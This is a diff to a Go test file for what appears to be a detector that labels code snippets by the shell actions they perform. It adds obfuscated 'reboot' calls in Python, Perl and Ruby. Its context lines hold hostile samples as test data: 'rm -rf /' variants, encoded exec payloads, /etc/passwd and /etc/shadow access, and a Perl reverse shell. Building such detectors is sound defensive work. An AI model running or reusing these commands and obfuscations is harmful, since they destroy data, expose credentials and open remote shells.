@@ -57,6 +57,7 @@ func TestPython(t *testing.T) {
 		"os.system('ls %s' % name)":                                                     "shell: ls $_",
 		"os.system('ls {}'.format('/root'))":                                            "shell: ls /root",
 		`os.execvp("rm", ["rm", "-rf", "/"])`:                                           "shell: rm -rf /",
+		`import os; os.system("".join(map(chr, [114, 101, 98, 111, 111, 116])))`:        "shell: reboot",
 		`exec(base64.b64decode("b3Muc3lzdGVtKCdyZWJvb3QnKQ=="))`:                        "shell: reboot",
 		`eval(bytes.fromhex("6f732e73797374656d28276964202d612729"))`:                   "shell: id -a",
 		`exec(marshal.loads(zlib.decompress(blob)))`:                                    "code.run.encoded",
@@ -147,9 +148,10 @@ func TestOtherLanguages(t *testing.T) {
 		`open(F, ">>/etc/passwd");`:        "shell.write.account",
 		`open(my $f, "<", "/etc/shadow");`: "shell.secret.read",
 		`use Socket;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in(1,inet_aton("h")))){open(STDIN,">&S");exec("/bin/sh -i");};`: "code.reverse",
-		`print "system('rm -rf /')";`: "",
-		`# system("reboot")`:          "",
-		`print 'ok'`:                  "",
+		`print "system('rm -rf /')";`:        "",
+		`# system("reboot")`:                 "",
+		`print 'ok'`:                         "",
+		`system(pack("H*", "7265626f6f74"))`: "shell: reboot",
 	})
 	check(t, "ruby", map[string]string{
 		`system 'rm -rf /etc'`: "shell: rm -rf /etc",
@@ -161,6 +163,7 @@ func TestOtherLanguages(t *testing.T) {
 		`IO.popen("reboot")`:                                    "shell: reboot",
 		`d = "/etc"; system("rm -rf #{d}")`:                     "shell: rm -rf /etc",
 		`puts "rm -rf /"`:                                       "",
+		`system(["7265626f6f74"].pack("H*"))`:                   "shell: reboot",
 		`config = YAML.load_file("a.yml"); puts config.inspect`: "",
 	})
 	check(t, "php", map[string]string{
